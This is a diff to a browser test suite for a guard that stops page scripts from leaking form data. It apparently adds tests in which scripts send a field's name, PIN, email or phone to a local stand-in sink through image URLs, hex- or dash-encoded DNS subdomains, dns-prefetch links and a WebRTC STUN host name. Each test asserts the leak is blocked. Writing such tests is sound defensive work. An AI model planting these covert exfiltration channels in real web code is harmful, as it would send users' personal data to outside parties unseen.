@@ -114,6 +114,24 @@ describe('what the boundary must let through', function () {
     expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
   });
 
+  // Short field values: a quantity of 100, a "yes" chosen from a list, are no data a request can
+  // leak, and "100" inside "1000" or "ada" inside "canada" is no match; a typed short name, a
+  // PIN, an email or a phone still is.
+  const shortValues = `${page}<label>Quantity <input id="qty" value="100"></label><label>Newsletter <select id="news"><option>no</option><option selected>yes</option></select></label>
+    <label>First name <input id="first" value="Ada"></label><label>PIN <input id="pin" type="password" value="4821"></label><label>Phone <input id="tel" value="415-555-2671"></label>`;
+  it('an address holding short values the fields hold (a quantity, a choice) loads', async () => {
+    const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url('/thumbs/canada.jpg?w=1000&page=100&hd=yes'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => record.path)).to.deep.equal(['/thumbs/canada.jpg']);
+  });
+  for (const query of ['n=Ada', 'p=4821', 'e=ada@example.com', 't=415-555-2671']) {
+    it(`a typed short name, a PIN, an email, a phone are still refused (${query})`, async () => {
+      const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url(`/p.gif?${query}`))) });
+      expect(await sink.received(300)).to.deep.equal([]);
+      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    });
+  }
+
   it('markup with one picture carrying the data goes in without that address, the rest whole', async () => {
     const run = await attack({ page, setup: (root) => onSave(() => root.insertAdjacentHTML('beforeend', `<section id="gallery"><h2>Gallery</h2>
       <img id="cdn" alt="Cover" src="${sink.url('/large/cover.jpg?w=1200')}"><img id="spy" alt="" src="${sink.url('/p.gif?e=ada@example.com')}"></section>`))(root) });
@@ -123,6 +141,47 @@ describe('what the boundary must let through', function () {
     expect(gallery?.querySelector('h2')?.textContent).to.equal('Gallery');
     expect(gallery?.querySelector('#cdn')?.getAttribute('src')).to.include('/large/cover.jpg');
     expect(gallery?.querySelector('#spy')?.hasAttribute('src'), 'the spy picture has no address').to.equal(false);
+  });
+});
+
+// Round 5: the data in the host name of the address (a DNS lookup carries it to the attacker's
+// name server, whatever the path): a picture, and a dns-prefetch link inserted by markup. The
+// sink answers on *.sink.localhost (loopback in the engines that resolve it).
+describe('data in the host name of an address', function () {
+  this.timeout(20_000);
+  const hosted = (label: string, path = '/p.gif') => sink.url(path).replace('127.0.0.1', `${label}.sink.localhost`);
+  const SENDS: Array<[string, () => void]> = [
+    ["a field's value, its dots as dashes, in a picture's subdomain", () => (new Image().src = hosted('ada-example-com'))],
+    ["a field's value, hex-encoded, in a dns-prefetch link's subdomain", () => document.body.insertAdjacentHTML('beforeend', `<link rel="dns-prefetch" href="${hosted([...'ada@example.com'].map((char) => char.charCodeAt(0).toString(16)).join(''))}">`)],
+  ];
+  for (const [name, send] of SENDS) {
+    it(name, async () => {
+      const run = await attack({ page, setup: onSave(send) });
+      expect(await sink.received(300), 'what reached the other site').to.deep.equal([]);
+      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    });
+  }
+
+  it("a peer connection whose STUN server's host name carries a field's value", async function () {
+    // WebKit's test build has no WebRTC.
+    if (!('RTCPeerConnection' in window)) this.skip();
+    let threw = false;
+    const run = await attack({ page, setup: onSave(() => {
+      try {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:ada-example-com.sink.localhost:${new URL(sink.origin).port}` }] });
+        peer.createDataChannel('x');
+        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+      } catch {
+        threw = true;
+      }
+    }) });
+    expect(threw, 'the peer connection was refused').to.equal(true);
+    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['CONNECT']);
+  });
+
+  it("a picture from the site's CDN host, or a subdomain naming nothing of the page's, loads", async () => {
+    const run = await attack({ page, setup: onSave(() => (new Image().src = hosted('img-cdn-2', '/cover.jpg'))) });
+    expect(run.blocked).to.deep.equal([]);
   });
 });
 
